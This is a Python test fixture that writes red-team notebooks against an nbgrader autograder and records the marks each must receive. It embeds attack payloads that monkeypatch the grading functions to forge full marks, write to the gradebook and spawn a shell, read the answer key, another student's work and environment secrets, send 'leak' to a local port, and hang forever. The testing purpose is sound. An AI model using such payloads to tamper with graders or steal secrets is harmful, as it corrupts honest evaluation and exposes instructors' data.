"""Red-team corpus aimed at ``nbgrader autograde``: forge the judge, patch nbgrader, reach outside.

``build(submitted, repo, target)`` writes ``submitted/<case>/softmax_regression/`` (both notebooks)
for every case and returns ``{case: NbAttack}``. On nbgrader's old path the student's kernel ran
the hidden tests, so replacing ``run_checks`` in it forged full marks; the attacks here also run
their top-level code where the notebook is displayed (the confined kernel), aiming at the files,
the environment and the processes of the instructor who runs nbgrader.
"""

from __future__ import annotations

import copy
import json
import textwrap
from dataclasses import dataclass
from pathlib import Path

ASSIGNMENT = "softmax_regression"
MAIN, QUIZ = "softmax_regression.ipynb", "quiz.ipynb"


@dataclass
class NbTarget:
    """What the attacks aim at (paths as strings, to paste into code)."""

    canary: str
    canary_dir: str
    answer_key: str
    gradebook: str
    other_student: str
    secret_env: str
    port: int


@dataclass
class NbAttack:
    """One attack and what must come of it in nbgrader's gradebook."""

    what: str
    max_code_points: float
    """The most the main notebook's test cells may earn."""
    min_code_points: float = 0.0
    """The least they must keep (the honest part beside the attack)."""
    cut: bool = False
    """A demo cell never ends: the autograded notebook must say it was stopped."""


def _ids(nb) -> dict:
    return {
        c["metadata"]["nbgrader"]["grade_id"]: c
        for c in nb["cells"]
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
    }


def _src(cell) -> str:
    s = cell["source"]
    return "".join(s) if isinstance(s, list) else s


def build(submitted: Path, repo: Path, target: NbTarget) -> dict[str, NbAttack]:
    """Write the corpus under `submitted`; return what each attack must come to."""
    release = json.loads((repo / "release" / ASSIGNMENT / MAIN).read_text())
    alice_dir = repo / "examples" / "submitted" / "alice_full" / ASSIGNMENT
    alice = json.loads((alice_dir / MAIN).read_text())
    honest = {gid: _src(c) for gid, c in _ids(alice).items()}
    t = target
    cases: dict[str, NbAttack] = {}

    def write(name, attack, functions=(), train_stub=True):
        """A notebook: the release, `functions` solved honestly, `attack` prepended to softmax's cell."""
        nb = copy.deepcopy(release)
        ids = _ids(nb)
        for gid in functions:
            ids[gid]["source"] = honest[gid]
        if not train_stub:
            ids["train_ch3"]["source"] = honest["train_ch3"]
        ids["softmax"]["source"] = textwrap.dedent(attack).strip() + "\n\n" + _src(ids["softmax"])
        folder = submitted / name / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        (folder / MAIN).write_text(json.dumps(nb, indent=1))
        (folder / QUIZ).write_text((alice_dir / QUIZ).read_text())

    write("forged_judge", """
        import autograder.inprocess as _ip
        _ip.run_checks = lambda *a, **k: None""")  # fmt: skip
    cases["forged_judge"] = NbAttack("a blank notebook that replaces run_checks (issue 21)", 0)
    write("forged_every_judge", """
        import sys
        for _m in list(sys.modules.values()):
            for _n in ("run_checks", "check_answer", "determine_grade"):
                if hasattr(_m, _n):
                    setattr(_m, _n, lambda *a, **k: None)""")  # fmt: skip
    cases["forged_every_judge"] = NbAttack("replaces every judge it finds in sys.modules", 0)
    write("patch_nbgrader", """
        import nbgrader.utils as _u
        _u.determine_grade = lambda cell, log=None: (float(cell.metadata["nbgrader"]["points"]),) * 2
        try:
            import autograder.platforms.nbgrader as _p
            _p.verdict_outputs = lambda *a, **k: []
        except Exception as err:
            print("no grader here:", err)""")  # fmt: skip
    cases["patch_nbgrader"] = NbAttack("patches nbgrader and the preprocessor from the kernel", 0)
    write("write_outside", f"""
        import subprocess
        for _path in ({t.canary_dir + '/written.txt'!r}, {t.gradebook!r}, {t.canary!r}):
            try:
                open(_path, "a").write("pwned")
            except Exception as err:
                print("write refused:", type(err).__name__)
        try:
            subprocess.run(["sh", "-c", "echo pwned > {t.canary_dir}/spawned.txt"])
        except Exception as err:
            print("process refused:", type(err).__name__)""",
          functions=("cross_entropy", "accuracy"))  # fmt: skip
    cases["write_outside"] = NbAttack("writes a canary, the gradebook, and starts a shell", 14)
    write("read_secrets", f"""
        import os, socket
        for _path in ({t.canary!r}, {t.answer_key!r}, {t.other_student!r}, "/proc/1/environ"):
            try:
                print(open(_path).read()[:100000])
            except Exception as err:
                print("read refused:", type(err).__name__)
        print(dict(os.environ))
        print(os.environ.get({t.secret_env!r}))
        try:
            socket.create_connection(("127.0.0.1", {t.port}), timeout=2).sendall(b"leak")
        except Exception as err:
            print("connect refused:", type(err).__name__)""",
          functions=("cross_entropy", "accuracy"))  # fmt: skip
    cases["read_secrets"] = NbAttack(
        "prints the key, a canary, another student's notebook, the environment; connects out", 14
    )
    write("hangs_in_a_demo", """
        import time
        while True:
            time.sleep(0.01)""", functions=("cross_entropy", "accuracy"))  # fmt: skip
    cases["hangs_in_a_demo"] = NbAttack("a cell that never ends", 14, cut=True)
    write("honest_train_stub", "", functions=("softmax", "cross_entropy", "accuracy"))
    cases["honest_train_stub"] = NbAttack("honest, train_ch3 not done", 24, min_code_points=24)
    return cases
